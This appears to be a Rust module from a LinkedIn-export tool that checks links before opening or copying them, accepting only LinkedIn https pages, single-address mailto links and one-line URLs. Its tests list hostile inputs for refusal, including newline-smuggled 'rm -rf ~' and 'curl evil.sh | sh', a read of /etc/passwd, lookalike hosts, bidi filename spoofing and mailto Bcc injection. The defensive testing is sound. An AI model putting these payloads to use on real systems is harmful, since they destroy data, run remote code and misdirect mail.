//! Links from an export go to two places that act on them: the desktop opener (which
//! hands `file:`, `smb:` or a `.desktop` file to whatever handles it) and the clipboard
//! (from which a line with a newline in it runs when pasted into a shell). Each gets only
//! what it should: the opener LinkedIn's own `https://` pages and checked `mailto:`
//! links, the clipboard a single line of URL characters.

use std::fmt;

use crate::model::mail::mailbox;

use super::{escape, is_invisible_or_format, is_unsafe};

/// Why a link was not opened or copied; its message quotes the link escaped and cut short.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    why: &'static str,
    link: String,
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.why, self.link)
    }
}

/// Links are quoted up to this many characters: enough to recognise one.
const QUOTED: usize = 80;

fn refuse(why: &'static str, link: &str) -> Refusal {
    let mut quoted: String = link.chars().take(QUOTED).collect();
    if link.chars().nth(QUOTED).is_some() {
        quoted.push('…');
    }
    Refusal {
        why,
        link: escape(&quoted).into_owned(),
    }
}

const NOT_LINKEDIN: &str =
    "Not opened: only https:// links to LinkedIn (linkedin.com) are opened, and this is";
const BAD_MAILTO: &str = "Not opened: this e-mail link is not to exactly one plain address";

/// `url` if the opener may have it: an `https://` URL on `linkedin.com` or one of its
/// subdomains (`www.`, `de.`), without user information or a port other than 443, or a
/// `mailto:` link whose address passes the check the drafts use.
pub fn openable_url(url: &str) -> Result<&str, Refusal> {
    if let Some(rest) = strip_prefix_ignore_case(url, "mailto:") {
        return openable_mailto(url, rest);
    }
    let refused = || refuse(NOT_LINKEDIN, url);
    let rest = strip_prefix_ignore_case(url, "https://").ok_or_else(refused)?;
    if !url.chars().all(is_url_char) {
        return Err(refused());
    }
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = &rest[..end];
    let host = match authority.rsplit_once(':') {
        Some((host, "443")) => host,
        Some(_) => return Err(refused()),
        None => authority,
    };
    if is_linkedin_host(host) {
        Ok(url)
    } else {
        Err(refused())
    }
}

/// `url` if it may go on the clipboard: one line of URL characters, nothing else.
pub fn clipboard_url(url: &str) -> Result<&str, Refusal> {
    if !url.is_empty() && url.chars().all(is_url_char) {
        Ok(url)
    } else {
        Err(refuse(
            "Not copied: this URL holds spaces, line breaks or other characters no URL has",
            url,
        ))
    }
}

/// `linkedin.com` itself or a name under it, in letters, digits and inner hyphens; no
/// user information (`@`), nothing percent-encoded, no trailing dot.
fn is_linkedin_host(host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    let sub = match host.strip_suffix("linkedin.com") {
        Some("") => return true,
        Some(sub) => sub,
        None => return false,
    };
    let Some(sub) = sub.strip_suffix('.') else {
        return false; // evillinkedin.com
    };
    sub.split('.').all(|label| {
        !label.is_empty()
            && label.len() <= 63
            && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
            && !label.starts_with('-')
            && !label.ends_with('-')
    })
}

/// A `mailto:` link as [`crate::model::mail::mailto`] writes it: one address (percent-
/// decoded, it must pass the drafts' check), then only percent-encoded text.
fn openable_mailto<'a>(url: &'a str, rest: &str) -> Result<&'a str, Refusal> {
    let refused = || refuse(BAD_MAILTO, url);
    if !url.chars().all(|c| c.is_ascii_graphic()) {
        return Err(refused());
    }
    let address = rest.split_once('?').map_or(rest, |(a, _)| a);
    let decoded = percent_encoding::percent_decode_str(address)
        .decode_utf8()
        .map_err(|_| refused())?;
    match mailbox(&decoded) {
        Ok(checked) if checked == decoded => Ok(url),
        _ => Err(refused()),
    }
}

/// What a URL may hold: RFC 3986's characters, and letters of other scripts as exports
/// write them (`/in/zoë`). No space, quote, backslash, control or invisible character.
fn is_url_char(c: char) -> bool {
    if c.is_ascii() {
        c.is_ascii_alphanumeric() || "-._~:/?#[]@!$&'()*+,;=%".contains(c)
    } else {
        !(is_unsafe(c) || is_invisible_or_format(c) || c.is_whitespace())
            && (c.is_alphanumeric() || c == '\u{00B7}')
    }
}

fn strip_prefix_ignore_case<'a>(s: &'a str, prefix: &str) -> Option<&'a str> {
    let head = s.get(..prefix.len())?;
    head.eq_ignore_ascii_case(prefix)
        .then(|| &s[prefix.len()..])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn linkedin_pages_open() {
        for ok in [
            "https://www.linkedin.com/in/ada-lovelace",
            "https://linkedin.com/in/ada",
            "https://de.linkedin.com/in/jürgen-müller-1a2b3c",
            "HTTPS://WWW.LINKEDIN.COM/in/ADA",
            "https://www.linkedin.com:443/in/ada",
            "https://www.linkedin.com/mynetwork/invite-connect/connections/",
            "https://www.linkedin.com",
            "https://www.linkedin.com?x=1#y",
        ] {
            assert_eq!(openable_url(ok), Ok(ok), "{ok}");
        }
    }

    #[test]
    fn other_schemes_hosts_ports_and_tricks_are_refused() {
        for bad in [
            "file:///etc/passwd",
            "smb://host/share/x.desktop",
            "http://www.linkedin.com/in/ada",
            "javascript:alert(1)",
            "www.linkedin.com/in/ada",
            "https://linkedin.com.evil.net/in/ada",
            "https://evil.net/linkedin.com",
            "https://evil.net/www.linkedin.com/in/ada",
            "https://evillinkedin.com/in/ada",
            "https://www.linkedin.com@evil.net/in/ada",
            "https://user:pass@www.linkedin.com/in/ada",
            "https://evil.net\\@www.linkedin.com/",
            "https://www.linkedin.com\\@evil.net/",
            "https://www.linkedin.com:8080/in/ada",
            "https://www.linkedin.com:/in/ada",
            "https://www.linkedin.com./in/ada",
            "https://.linkedin.com/in/ada",
            "https://www..linkedin.com/in/ada",
            "https://www%2elinkedin.com/in/ada",
            "https://www.linkedin.com/in/ada\nrm -rf ~",
            "https://www.linkedin.com/in/a da",
            "https://www.linkedin.com/in/ada\u{202e}fdp.exe",
            "https://www.linkedin.com/in/\u{1b}]0;x\u{7}",
            "https://",
            "",
        ] {
            let refused = openable_url(bad).expect_err(bad);
            let message = refused.to_string();
            assert!(message.starts_with("Not opened:"), "{message}");
            assert!(!message.chars().any(is_unsafe), "{message:?}");
        }
    }

    #[test]
    fn mail_links_open_only_to_one_checked_address() {
        let ok = "mailto:o%27brien%2Bx@example.com?subject=Hi&body=Dear%20Jo%0D%0A";
        assert_eq!(openable_url(ok), Ok(ok));
        assert!(openable_url("mailto:ada@example.com").is_ok());
        for bad in [
            "mailto:victim@example.com%3E%2C%20spy@evil.example",
            "mailto:victim@example.com,spy@evil.example",
            "mailto:a@b@example.com",
            "mailto:victim@localhost",
            "mailto:?to=spy@evil.example",
            "mailto:ada@example.com?subject=x\r\nBcc: spy@evil.example",
            "mailto:%20ada@example.com",
            "mailto:ada%00@example.com",
        ] {
            let refused = openable_url(bad).expect_err(bad);
            assert!(refused.to_string().starts_with("Not opened:"), "{refused}");
        }
    }

    #[test]
    fn only_one_line_of_url_characters_is_copied() {
        for ok in [
            "https://www.linkedin.com/in/zoë",
            "https://www.linkedin.com/in/ada-lovelace?trk=x&y=%20",
        ] {
            assert_eq!(clipboard_url(ok), Ok(ok));
        }
        for bad in [
            "https://www.linkedin.com/in/ada\ncurl evil.sh | sh",
            "https://x\r",
            "https://x y",
            "https://x\u{2028}rm",
            "https://x\u{85}rm",
            "https://x`id`",
            "https://x\"",
            "https://x\u{200b}",
            "",
        ] {
            let refused = clipboard_url(bad).expect_err(bad);
            let message = refused.to_string();
            assert!(message.starts_with("Not copied:"), "{message}");
            assert!(!message.chars().any(is_unsafe), "{message:?}");
        }
    }

    #[test]
    fn a_long_link_is_quoted_short() {
        let long = format!("file:///{}", "a".repeat(10_000));
        let message = openable_url(&long).unwrap_err().to_string();
        assert!(message.len() < 250, "{}", message.len());
        assert!(message.ends_with('…'));
    }
}
